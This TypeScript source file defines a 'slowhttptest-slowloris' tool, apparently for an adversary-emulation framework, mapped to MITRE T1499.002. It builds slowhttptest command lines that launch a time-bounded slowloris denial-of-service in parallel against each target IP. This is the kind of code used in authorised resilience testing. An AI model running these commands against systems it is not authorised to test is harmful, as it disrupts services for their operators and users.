/** slowhttptest in slowloris mode (T1499.002 Service Exhaustion Flood). */
import { z } from 'zod';
import { defineTool } from './tool.js';

export const slowloris = defineTool({
  name: 'slowhttptest-slowloris',
  kind: 'attack',
  category: 'slow-dos',
  technique: 'T1499.002',
  description: 'slowhttptest -H: many connections sending headers slowly, for a bounded time',
  params: z.strictObject({
    /** Connections in total (slowhttptest -c). */
    connections: z.number().int().min(1).max(2000).default(300),
    /** New connections per second (-r). */
    rate: z.number().int().min(1).max(1000).default(100),
    /** Seconds between follow-up header lines (-i). */
    intervalSeconds: z.number().int().min(1).max(60).default(5),
    /** Attack length in seconds (-l); the step's maxSeconds still bounds it. */
    seconds: z.number().int().min(1).max(600).default(15),
    port: z.number().int().min(1).max(65535).default(80),
  }),
  targetPorts: (p) => [p.port],
  plan: (p, ctx) => ({
    mode: 'parallel',
    commands: ctx.targets.map((t) => ({
      argv: [
        'slowhttptest', '-H', '-c', String(p.connections), '-r', String(p.rate), '-i', String(p.intervalSeconds),
        '-l', String(Math.min(p.seconds, ctx.maxSeconds)), '-x', '24', '-p', '3', '-u', `http://${t.ip}:${p.port}/`,
      ],
    })),
  }),
});
